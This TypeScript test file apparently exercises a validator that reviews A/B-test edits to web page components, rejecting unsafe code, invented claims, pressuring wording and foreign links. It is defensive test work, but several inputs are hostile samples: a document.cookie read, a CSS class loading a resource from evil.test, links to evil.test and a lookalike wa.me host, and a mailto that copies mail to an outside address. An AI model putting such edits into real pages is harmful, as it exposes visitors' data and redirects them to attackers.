    '<>{items.map((item) => <li>{item.name.first}</li>)}</>',
    '<>{items.map((document) => <li>{document.cookie}</li>)}</>',
    '<>{items.map((fetch) => <li>{fetch("/x")}</li>)}</>',
    '<>{items.map((item) => <Wipe {...item} />)}</>',
    '<>{kind.map((item) => <li>{item.name}</li>)}</>',
    '<>{items.map((item) => <li>{item.name}</li>)}{item.name}</>',
    '<b>{items.reduce((sum, one) => sum + one.name)}</b>',
  ])
    t.equal(list(replace), 'unsafe', replace)
  t.equal(list('one.name)', 'one.id)'), 'unsafe', 'what a handler is given is no text')
})

t.test('a text of a list that the file writes out may be shown by its index', async (t) => {
  const VOICES = `const voices = [{ quote: 'Warm', by: 'Ann', 'a b': 1, token: 'x' }, { quote: 'Light', by: fetchName() }]
let later = [{ quote: 'Soft' }]
const some = [...voices, { quote: 'Big' }]
export const List = () => <ul>{voices.map((one) => <li key={one.quote}>{one.by}{one.token}</li>)}<b>More</b>
  {later.map((one) => <i>{one.quote}</i>)}{some.map((one) => <i>{one.quote}</i>)}</ul>
`
  const shown = (code: string): string =>
    told('<b>More</b>', `<b>{${code}}</b>`, `${VOICES} 1`, 'a.jsx', VOICES)
  for (const code of ['voices[0].quote', 'voices[1].quote', 'voices[0].by'])
    t.equal(shown(code), 'none', code)
  for (const code of [
    'voices[2].quote',
    'voices[1].by',
    'voices[0].token',
    'voices[0]',
    'later[0].quote',
    'some[0].quote',
    'voices[0].quote.by',
  ])
    t.equal(shown(code), 'unsafe', code)
})

t.test('a name is declared where it is read', async (t) => {
  const list = (replace: string): string => told('<b>More</b>', replace, LISTS, 'a.jsx', LISTS)
  t.equal(list('<b title={empty}>More</b>'), 'unsafe', 'of a block that has ended')
  t.equal(list('<b title={item.name}>More</b>'), 'unsafe', 'of a function')
  const message = (replace: string): string | undefined =>
    policyViolation([{ find: '<b>More</b>', replace, variant: 'b' }], { path: 'a.jsx', text: LISTS }, LISTS)
      ?.message
  t.equal(message('<b title={empty}>More</b>'), 'it reads “empty”, which nothing declares before that place')

  const slots = (replace: string, find = '<b>More</b>'): string => {
    const text = `const banner = 'A', Early = () => <i>{banner}Soon</i>
export function Slots({ all }) {
  const top = <b>Top</b>
  const open = all.filter((one) => one.isOpen), unread = all.length
  const handle = () => late.trim()
  useEffect(() => { for (const each of all) { const count = each.size; log(count) } }, [])
  const late = all[0].name
  return <p onClick={handle}>{all.map((one) => <i key={one.name}>{one.name}</i>)}<b>More</b></p>
}`
    return told(find, replace, text, 'a.jsx', text)
  }
  for (const read of [
    'open.map((one) => <i key={one.name}>{one.name}</i>)',
    "unread > 2 ? 'Many' : 'Few'",
    "open.length > 2 && 'Many'",
  ])
    t.equal(slots(`<b>{${read}}</b>`), 'none', read)
  t.equal(slots("<b>{count > 2 && 'Many'}</b>"), 'unsafe', 'of a loop in a callback')
  for (const read of ["unread > 2 && 'Many'", "all.map((one) => <i>{unread > 2 && 'x'}</i>)"])
    t.equal(slots(`<b>{${read}}</b>`, '<b>Top</b>'), 'unsafe', 'before it is there')
})

t.test('the classes of a form are free, and a class that may load something is named', async (t) => {
  const form = `<form onSubmit={send} className="mt-5 grid md:grid-cols-[1fr_1fr_auto]"><input name="a" /><input name="b" /></form>`
  const text = `export const Page = ({ send }) => ${form}\n`
  const changed = (className: string): string | undefined =>
    policyViolation(
      [
        { find: '"mt-5 grid md:grid-cols-[1fr_1fr_auto]"', replace: `"${className}"`, variant: 'b' },
        { find: '<input name="a" />', replace: '', variant: 'b' },
      ],
      { path: 'a.jsx', text },
      text,
    )?.message
  t.equal(changed('mt-5 grid md:grid-cols-[1fr_auto]'), undefined)
  t.equal(changed('mt-5 shadow-[0_3px_10px_rgb(0,0,0,0.2)] text-[var(--body)]'), undefined)
  t.match(
    changed('mt-5 bg-[0_url(//evil.test/a.png)] p-4'),
    /“bg-\[0_url\(\/\/evil.test\/a.png\)\]”, which is no plain class/,
  )
  const frame = '<script class="optional" src="/a.js"></script><p>Hi</p>'
  t.equal(told('class="optional"', 'class="needed"', frame, 'a.html', frame), 'unsafe', 'of a script')
})

t.test('a link may lead to an id that the same variant brings in, if no other element has it', async (t) => {
  const page = (name: string): string =>
    `export const Part = () => <main><p>Questions</p><p id="${name}-id">More</p></main>\n`
  const files: Record<string, string> = { 'src/intro.jsx': page('intro'), 'src/faq.jsx': page('faq') }
  const outcome = async (
    id: string,
    address: string,
    [variant, of]: (string | undefined)[] = ['b', 'b'],
  ): Promise<string> => {
    const site = new SiteIndex()
    for (const [path, text] of Object.entries(files)) site.add(path, text)
    const edit = (replace: string, variant?: string) => ({
      find: '<p>Questions</p>',
      replace,
      ...(variant && { variant }),
    })
    const refusal = await validateCandidate(
      {
        name: 'A link',
        files: [
          { path: 'src/intro.jsx', edits: [edit(`<p id="${id}">Questions</p>`, variant)] },
          { path: 'src/faq.jsx', edits: [edit(`<p>Questions</p><p><a href="${address}">Go on</a></p>`, of)] },
        ],
        variants: ['control', 'b', 'c'].map((key) => ({
          key,
          displayName: key,
          trafficSplit: 0,
          isControl: key === 'control',
        })),
      },
      { read: async (path) => files[path] ?? null, mayChange: () => true, site },
    )
    return refusal?.message ?? 'none'
  }
  t.equal(await outcome('early-access', '#early-access'), 'none')
  t.equal(await outcome('early-access', '#early-access', [undefined, 'b']), 'none', 'for everybody')
  t.match(await outcome('early-access', '#early-access', ['c', 'b']), /brings in “href="#early-access"”/)
  t.match(await outcome('early-access', '#later-access'), /brings in “href="#later-access"”/)
  t.match(await outcome('faq-id', '#faq-id'), /“id="faq-id"”, which is no id of the file/, 'taken')
  t.match(await outcome('config', '#config'), /“id="config"”, which is no id of the file.*with a hyphen/)
})

t.test(
  'a property may be read that a component reads of the same object, which the file gives it',
  async (t) => {
    const told = (condition: string, given: string, path = 'src/Page.svelte'): string => {
      const isSvelte = path.endsWith('.svelte')
      const script = `import Buy from './Buy.svelte'; export let product; export let other`
      const text = isSvelte
        ? `<script>${script}</script>\n<p>{product.cost}</p><p>{other.cost}</p><Buy ${given} />\n`
        : `import { Buy } from './Buy'\nexport const Page = ({ product, other }) => <main><p>{product.cost}</p><p>{other.cost}</p><Buy ${given} /></main>\n`
      const site = new SiteIndex()
      site.add(
        'src/Buy.svelte',
        '<script>export let product</script>{#if product.available}{product.sku}{product.token}{/if}',
      )
      site.add(
        'src/Buy.tsx',
        'export const Buy = ({ product }) => <p>{product.available ? product.sku : null}</p>',
      )
      const shown = isSvelte ? `{#if ${condition}}<b>Sold</b>{/if}` : `{${condition} && <b>Sold</b>}`
      const edit = {
        find: '<p>{product.cost}</p>',
        replace: `<div><p>{product.cost}</p>${shown}</div>`,
        variant: 'b',
      }
      return policyViolation([edit], { path, text }, text, site)?.message ?? 'none'
    }
    for (const given of ['{product}', 'product={product}'])
      t.equal(told('!product.available', given), 'none', given)
    t.equal(told('!product.available', 'product={product}', 'src/Page.jsx'), 'none')
    t.match(told('!product.sold', '{product}'), /product\.sold/, 'no component reads it')
    t.match(told('!other.available', '{product} {other}'), /other\.available/, 'of another object')
    t.match(told('!product.available', 'product={other}'), /product\.available/, 'given another object')
    t.match(told('!product.token', '{product}'), /product\.token/, 'what no page shows')
  },
)

t.test('a refusal names all that is wrong, by rule', async (t) => {
  const edits = [
    {
      find: '<b>More</b>',
      replace: '<b style="x" ping="/y" wipe={go}>900 more, guaranteed</b>',
      variant: 'b',
    },
    { find: '<p title={empty}>', replace: '<p title={secret} onClick={go}>', variant: 'c' },
  ]
  const violation = policyViolation(edits, { path: 'a.jsx', text: LISTS }, LISTS)
  t.match(violation, { reason: 'invented' })
  t.match(
    violation?.message,
    /^neither the file nor a text of another one says 900, “guaranteed”; it brings in “style="x"”, “ping="\/y"”/,
  )
  for (const one of ['wipe={go}', 'secret', 'onClick={go}']) t.match(violation?.message, `“${one}”`)
  t.equal(violation?.message.split('brings in').length, 3, 'attributes, and code')
  const pressed = [...edits, { find: '>x<', replace: '>Hurry<', variant: 'b' }]
  t.match(policyViolation(pressed, { path: 'a.jsx', text: LISTS }, LISTS), { reason: 'dark_pattern' })
})

t.test('in Next.js a link to a page of the site is no plain <a>', async (t) => {
  const page = (own = '<Link href="/plans">Plans</Link>'): string =>
    `import Link from 'next/link'\nexport const Page = () => <main>${own}<p>Come in</p><img src="/a.pdf" alt="x" /></main>\n`
  const link = (replace: string, text = page(), packages = ['next']): string =>
    policyViolation(
      [{ find: '<p>Come in</p>', replace, variant: 'b' }],
      { path: 'app/page.tsx', text, packages: new Set(packages) },
      text,
    )?.message ?? 'none'
  const plain = '<a href="/plans">See the plans</a>'
  t.match(link(plain), /lets no plain <a> .*\(“href="\/plans"”\): use <Link .*import Link from 'next\/link'/)
  t.match(link('<a href={"/plans"}>See the plans</a>'), 'use <Link')
  t.match(link('<a href="/#plans">See the plans</a>', page('<Link href="/#plans">x</Link>')), 'use <Link')
  t.equal(link('<Link href="/plans">See the plans</Link>'), 'none')
  t.equal(link('<a href="/a.pdf">Read on</a>'), 'none', 'a file')
  t.equal(link('<a href="#plans">x</a>', page('<p id="plans" />')), 'none')
  t.equal(link(plain, page(), ['react']), 'none')
  t.equal(link(plain, page('<a href="/plans">Plans</a>')), 'none', 'the file does it already')
})

t.test('words that press are no fault of a variant if the page has them there', async (t) => {
  const text = '<p>Your seat is held for a limited\n time. Please pay within it.</p><p>Pay</p>'
  const say = (find: string, replace: string) =>
    policyViolation([{ find, replace, variant: 'b' }], { path: 'a.html', text: html('Pay', text) }, text)
  const all = text.slice(0, text.indexOf('</p>') + 4)
  t.equal(
    say(all, '<p>You get your ticket right after you pay. Your seat is held for a limited time.</p>'),
    null,
  )
  t.match(say('<p>Pay</p>', '<p>Pay: limited time</p>'), { reason: 'dark_pattern' })
})

t.test(
  'a property that the file reads elsewhere may be shown of an object that the code around reads',
  async (t) => {
    const text = `export const Card = ({ item, sizes, onBuy }) => (
  <div>
    {sizes.map((size) => (
      <button key={size.code} onClick={() => onBuy({ price: size.price, id: item.id.raw })}>
        <b>{size.name}</b>
      </button>
    ))}
    <p>Choose</p>
  </div>
)
`
    const show = (find: string, replace: string) =>
      policyViolation([{ find, replace, variant: 'b' }], { path: 'a.jsx', text }, text)
    t.equal(show('<b>{size.name}</b>', '<b>{size.name}: {size.price}</b>'), null)
    t.match(show('<b>{size.name}</b>', '<b>{size.name}: {size.cost}</b>')?.message, 'size.cost')
    t.match(show('<p>Choose</p>', '<p>Choose {size.price}</p>')?.message, 'size.price', 'not there')
    t.match(
      show('<p>Choose</p>', '<p>Choose {item.id.raw}</p>')?.message,
      'item.id.raw',
      'nothing shows that it is there',
    )
  },
)

t.test('in Nuxt a link to a page of the site may be the first of its file', async (t) => {
  const text = '<template><main><a href="/plans">Plans</a><p>Come in</p></main></template>\n'
  const link = (replace: string, packages: string[]): string =>
    policyViolation(
      [{ find: '<p>Come in</p>', replace, variant: 'b' }],
      { path: 'pages/index.vue', text, packages: new Set(packages) },
      text,
    )?.message ?? 'none'
  t.equal(link('<NuxtLink to="/plans">See the plans</NuxtLink>', ['nuxt']), 'none')
  t.match(
    link('<NuxtLink to="https://evil.test/">See</NuxtLink>', ['nuxt']),
    'neither this file nor the site',
  )
  t.match(link('<NuxtLink to="/plans">See the plans</NuxtLink>', ['vue']), 'NuxtLink')
})

t.test('of a link that opens a message the words may change, the address may not', async (t) => {
  const chat = 'https://wa.me/491?text=Hello'
  const page = (href: string): string => `<a href="${href}">Write to us</a><p>Come in</p>`
  const link = (href: string, own = chat): string => told(page(own), page(href), own, 'a.html', page(own))
  t.equal(link('https://wa.me/491?text=I%20want%20a%20cake'), 'none')
  t.equal(link('https://wa.me/492?text=Hello'), 'unsafe')
  t.equal(link('https://wa.me/491?text=Hello&amp;next=x'), 'unsafe')
  t.equal(link('https://wa.me/491?text=See%20https%3A%2F%2Fevil.test'), 'unsafe')
  t.equal(link('https://wa.me/491?text=For%20900%20guests'), 'invented', 'they are copy')
  t.equal(link('https://wa.me.evil.test/491?text=Hello'), 'unsafe')
  t.equal(link('mailto:ask@lumen.test?subject=A%20cake&amp;body=Hello', 'mailto:ask@lumen.test'), 'none')
  t.equal(link('mailto:ask@lumen.test?cc=a@evil.test', 'mailto:ask@lumen.test'), 'unsafe')
  const code = `export const Page = () => <p><a href={'${chat}'}>Write</a><b>x</b></p>`
  const inCode = (href: string): string => told(`{'${chat}'}`, `{'${href}'}`, code, 'a.tsx', code)
  t.equal(inCode('https://wa.me/491?text=A%20cake'), 'none')
  t.equal(inCode('https://wa.me/492?text=A%20cake'), 'unsafe')
})

t.test('what components show is words, also if code writes them', async (t) => {
  const page = `export const Page = ({ year, data }) => <main><Hero description={\`New of \${year}\`} src={data.url} /><b>{year}</b></main>`
  const NEW_OF = `{\`New of \${year}\`}`
  const hero = (find: string, replace: string): string => told(find, replace, page, 'a.tsx', page)
  t.equal(hero(NEW_OF, "{'Lamps and chairs'}"), 'none')
  t.equal(hero(NEW_OF, '{year ? "Lamps of this year" : "Lamps"}'), 'none')
  t.equal(hero(NEW_OF, '{data}'), 'unsafe')
  t.equal(hero('{data.url}', '{year}'), 'unsafe')
})

t.test('the words of a variant are those that visitors read, whatever writes them', async (t) => {
  const words = (find: string, replace: string): string[] =>
    newTexts([{ edits: [{ find, replace, variant: 'b' }] }], 'b')
  const jsx = (own: string): string =>
    `<p onClick={() => set(1 > 0)} title={open ? 'Close' : 'Open'}>${own}</p>`
  t.same(words("busy ? 'Wait…' : 'Send'", `busy ? 'Wait…' : plan ? 'Pay' : \`Choose \${count} plans\``), [
    ...['Pay', 'Choose {count} plans'],
  ])
  t.same(words("{busy && 'x'}", `{(busy || kind === 'dark') && <b>{t('a.key')}Go{\`\${n}%\`}</b>}`), [
    '{…}Go{…}',
  ])
  t.same(words(jsx(''), jsx('{list.map((one) => one > 2 && <i key="k">New {one}</i>)} since <b>May</b>')), [
    ...['New {one}', 'since', 'May'],
  ])
  t.same(words('<Card title="A" />', `<Card description={\`From \${price}\`} title="A" icon="truck" />`), [
    'From {price}',
  ])
  t.same(words('<p>x</p>', '<p v-if="a > b">{{ open ? \'Shut it\' : "Open it" }}<br>now</p>'), [
    ...['Shut it', 'Open it', 'now'],
  ])
  t.same(words('<h2>About {name}?</h2>', "<h2>\n Is {name}{' '}\n right\n for you?{/* x */}</h2>"), [
    'Is {name} right for you?',
  ])
  t.same(words('"hidden md:inline-flex py-2.5"', '"inline-flex btn-primary !py-2.5 text-[13px]"'), [])
  t.same(words('<p>Old</p>', '<p>Sign-up – a {plan.name} account, day-to-day</p>'), [
    'Sign-up – a {plan.name} account, day-to-day',
  ])
  const edit = (find: string, replace: string) => ({ find, replace, variant: 'b' })
  const swapped = [edit('<b>Call</b>', '<b>Write</b>'), edit('<b>Write</b>', '<b>Call</b>')]
  t.same(newTexts([{ edits: swapped }], 'b'), [], 'they change places')
  t.same(words('Buy it', 'Say “yes” & buy'), ['Say “yes” & buy'])
  t.same(words("'/a'", "'/b'"), [], 'an address')
  t.same(words('https://wa.me/1', 'https://wa.me/1?text=A%20cake'), ['A cake'])
  const page = '<p>For teams</p>'
  for (const replace of ["<p>{'For 900 teams'}</p>", '<p>{on ? `For 900 teams` : null}</p>'])
    t.equal(told(page, replace, `${page} on`, 'a.tsx', `const x = (on) => ${page}`), 'invented', replace)
})

t.test('an expression of the file may stand at another place where its names are in scope', async (t) => {
  const cart = `<script setup>
import { shop } from './shop'
function formatCurrency(value) { return value.toFixed(2) }
function parseTotal(value) { return Number(value) }
function send(value) { fetch('/x', value) }
const { total } = defineProps(['total'])
send(total)
</script>
<template><main><Item :value="formatCurrency(parseTotal(total) + 1)" /><p>Total</p></main></template>
`
  const inVue = (code: string): string =>
    told('<p>Total</p>', `<p>Total {{ ${code} }}</p>`, cart + FIGURES, 'a.vue', cart)
  t.equal(inVue('formatCurrency(parseTotal(total) + 1)'), 'none')
  t.equal(inVue('formatCurrency(total)'), 'none')
  t.equal(inVue('send(total)'), 'unsafe')
  t.equal(inVue('formatOther(total)'), 'unsafe')
  const list = `import { data } from './data'
const kinds = ['All', 'Pools']
export function Works({ state, go }) {
  const [active, setActive] = useState('All')
  const shown = useMemo(() => data.works.filter((one) => one.kind === active), [active])
  const isMail = /@/.test(state.email.trim())
  const pick = (user) => user.works.filter((one) => one.kind)
  const mine = useMemo(() => { const hidden = go(); return hidden.works.filter((one) => one.kind) }, [])
  return <main><p>{active}</p>{kinds.map((kind) => { const on = kind === active; return <button key={kind} onClick={() => setActive(kind)}>{kind}</button> })}</main>
}
`
  const LOOP = /\{kinds\.map.*\}\)\}/.exec(list)?.[0] ?? ''
  const inJsx = (find: string, replace: string): string => told(find, replace, list + FIGURES, 'a.jsx', list)
  const filtered = (condition: string): string =>
    inJsx(LOOP, LOOP.replace('kinds.map', `kinds.filter((kind) => ${condition}).map`))
  t.equal(filtered("kind === 'All' || data.works.some((one) => one.kind === kind)"), 'none')
  t.equal(filtered('user.works.some((one) => one.kind === kind)'), 'unsafe', 'a parameter')
  t.equal(filtered('hidden.works.some((one) => one.kind === kind)'), 'unsafe', 'of another function')
  t.equal(filtered('go(kind)'), 'unsafe')
  t.equal(filtered('setActive(kind)'), 'unsafe')
  t.equal(
    inJsx(LOOP, LOOP.replace('kinds.map', 'kinds.filter((kind) => kind).map').replace('setActive(', 'go(')),
    'unsafe',
    'another handler',
  )
  const shown = (code: string): string => inJsx('<p>{active}</p>', `<p>{active}{${code}}</p>`)
  t.equal(shown('state.email.trim().length > 0 && <b>Mail</b>'), 'none')
  t.equal(shown('state.other.trim().length > 0 && <b>Mail</b>'), 'unsafe')
  t.equal(shown('go().length > 0 && <b>Mail</b>'), 'unsafe')
})
